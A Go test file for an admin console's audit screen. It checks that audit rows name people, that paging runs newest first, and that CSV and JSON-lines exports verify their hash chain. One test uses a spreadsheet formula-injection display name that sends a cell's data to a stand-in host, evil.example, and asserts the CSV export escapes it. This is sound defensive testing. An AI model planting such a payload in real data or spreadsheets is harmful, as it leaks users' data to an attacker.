package vm_test

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"github.com/watchword/watchword/console/vm"
	"github.com/watchword/watchword/shared/auditexport"
	"github.com/watchword/watchword/shared/wire"
)

// TestAuditNames: the audit screen names people and objects — the admin by name, a tech by display name and
// username, the object with its organization — pages newest first, and filters by the tech an event is about.
func TestAuditNames(t *testing.T) {
	a, _, w := world(t)
	ctx := testCtx(t)
	page, err := a.AuditPage(ctx, vm.AuditFilter{Tech: w.Techs["amoreau"]})
	if err != nil {
		t.Fatal(err)
	}
	var sums []string
	for _, r := range page.Rows {
		sums = append(sums, r.Summary)
	}
	if !contains(sums, "Owner approved amoreau") || !contains(sums, "Alice Moreau (amoreau) registered as amoreau") {
		t.Fatalf("amoreau's events: %q", sums)
	}
	page, err = a.AuditPage(ctx, vm.AuditFilter{Tech: w.Techs["gkim"], Action: "tech.register"})
	if err != nil || len(page.Rows) != 1 || page.Rows[0].Summary != "Grace Kim (gkim) registered as gkim (Contoso Ltd)" ||
		page.Rows[0].Actor != "Grace Kim (gkim)" {
		t.Fatalf("gkim's registration: %+v, %v", page, err)
	}
	// Pages: newest first, More while older events remain, the next page before the last row.
	first, err := a.AuditPage(ctx, vm.AuditFilter{Limit: 5})
	if err != nil || len(first.Rows) != 5 || !first.More || first.Rows[0].Event.Seq <= first.Rows[4].Event.Seq {
		t.Fatalf("first page: %+v, %v", first, err)
	}
	next, err := a.AuditPage(ctx, vm.AuditFilter{Limit: 5, Before: first.Rows[4].Event.Seq})
	if err != nil || len(next.Rows) == 0 || next.Rows[0].Event.Seq != first.Rows[4].Event.Seq-1 {
		t.Fatalf("next page: %+v, %v", next, err)
	}
	for _, r := range first.Rows {
		if strings.Contains(r.Summary, "#") {
			t.Fatalf("an event names a number, not a name: %q", r.Summary)
		}
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

// TestAuditExport: the filtered events export as CSV and JSON lines with the chain hashes; both read back and
// verify, a hostile display name is escaped in the CSV, and the export holds exactly the filter's events.
func TestAuditExport(t *testing.T) {
	a, h, w := world(t)
	ctx := testCtx(t)
	evil := h.NewIdentity()
	if _, err := h.Client(evil).Register(ctx, wire.RegisterRequest{Username: "mallory", DisplayName: `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		Email: "m@example.com"}); err != nil {
		t.Fatal(err)
	}
	if err := a.Refresh(ctx); err != nil {
		t.Fatal(err)
	}
	all, err := a.Audit(ctx, vm.AuditFilter{})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []auditexport.Format{auditexport.CSV, auditexport.JSONL} {
		var buf bytes.Buffer
		n, err := a.ExportAudit(ctx, vm.AuditFilter{}, &buf, f)
		if err != nil || n != len(all) {
			t.Fatalf("%s: exported %d of %d events, %v", f, n, len(all), err)
		}
		evs, err := auditexport.Read(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		if r := auditexport.Verify(evs); len(r.Problems) > 0 || r.Links != n-1 || r.Gaps != 0 {
			t.Fatalf("%s: %s", f, r)
		}
		if f == auditexport.CSV && (strings.Contains(buf.String(), ",=HYPERLINK") || !strings.Contains(buf.String(), `"'=HYPERLINK(`)) {
			t.Fatalf("the hostile name is not escaped:\n%s", buf.String())
		}
	}
	// A filter: emma's tech events, oldest first, with gaps where other events were left out.
	var buf bytes.Buffer
	n, err := a.ExportAudit(ctx, vm.AuditFilter{Tech: w.Techs["eschulz"], Action: "tech."}, &buf, auditexport.JSONL)
	if err != nil || n != 3 {
		t.Fatalf("emma's export: %d, %v", n, err)
	}
	evs, _ := auditexport.Read(&buf)
	if r := auditexport.Verify(evs); len(r.Problems) > 0 || evs[0].Action != "tech.register" || evs[2].Action != "tech.disable" {
		t.Fatalf("emma's export: %s %v", r, evs)
	}
	if _, err := a.ExportAudit(ctx, vm.AuditFilter{}, &buf, "xlsx"); err == nil || !strings.Contains(err.Error(), fmt.Sprintf("%q", "xlsx")) {
		t.Fatalf("an unknown format: %v", err)
	}
}
